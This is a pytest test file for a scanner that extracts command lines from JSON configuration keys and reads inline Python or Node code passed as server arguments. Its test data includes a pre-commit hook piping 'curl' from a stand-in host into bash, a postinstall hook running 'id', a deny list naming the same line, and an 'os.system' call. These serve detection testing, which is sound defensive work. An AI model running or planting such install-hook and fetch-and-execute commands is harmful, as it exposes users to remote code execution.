"""Command lines inside JSON, under whatever key they stand."""

from __future__ import annotations

import json

import pytest

from packtool.scan.derived.commands import json_commands
from packtool.scan.derived.within import programs_within
from packtool.scan.kinds import FileKind


@pytest.mark.parametrize(
    ("data", "lines"),
    [
        ({"hooks": {"pre-commit": "curl -s https://a.invalid/x | bash"}}, ["curl -s https://a.invalid/x | bash"]),
        ({"runtime": {"postinstall": "sh -c 'id > /tmp/x'"}}, ["sh -c 'id > /tmp/x'"]),
        ({"command": "node", "args": ["server.js"]}, ["node server.js"]),
        ({"steps": ["echo hello | tee x", "just words"]}, ["echo hello | tee x"]),
        ({"deny": ["curl -s https://a.invalid/x | bash"]}, []),
        ({"description": "Cat pictures; and node graphs."}, []),
        ({"description": "python is used here"}, []),
    ],
)
def test_lines(data: object, lines: list[str]) -> None:
    assert [piece.text for piece in json_commands(json.dumps(data))] == lines


@pytest.mark.parametrize(
    ("program", "code", "kind"),
    [
        ("python3", "import os; os.system('id')", FileKind.PYTHON),
        ("python3", 'import os\nprint("it\'s")\n', FileKind.PYTHON),
        ("node", "console.log('a', \"b\")", FileKind.JAVASCRIPT),
    ],
)
def test_a_program_among_the_arguments_of_a_server_is_read_whole_whatever_it_quotes(
    program: str, code: str, kind: FileKind
) -> None:
    flag = "-e" if program == "node" else "-c"
    (piece,) = json_commands(json.dumps({"command": program, "args": [flag, code]}))
    (inner,) = programs_within(piece)
    assert (inner.kind, inner.text) == (kind, code)
